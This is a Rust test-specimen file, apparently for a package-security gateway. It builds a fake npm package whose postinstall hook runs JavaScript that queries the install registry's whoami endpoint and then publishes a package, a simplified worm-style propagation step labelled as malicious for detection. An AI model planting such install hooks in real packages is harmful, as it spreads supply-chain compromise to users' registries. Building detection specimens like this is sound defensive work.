//! An npm `postinstall` that uses the registry it was installed from: asks who is logged in and publishes.
//!
//! Must be found: the gateway refuses it and tells.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const SPREAD_JS: &str = r"const http = require('http');
const base = process.env.npm_config_registry;
const ask = (method, path, body) => new Promise((done) => {
  const request = http.request(base + path, { method, headers: { authorization: 'Bearer x' } }, (answer) => answer.resume().on('end', done));
  request.on('error', done);
  request.end(body);
});
ask('GET', '-/whoami').then(() => ask('PUT', 'kit-colors', JSON.stringify({ _id: 'kit-colors', _attachments: {} })));
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("kit-colors", "1.0.2")
        .file("spread.js", SPREAD_JS)
        .script("postinstall", "node spread.js");
    package.specimen("npm-worm", Expect::malicious(&["registry-publish"]))
}
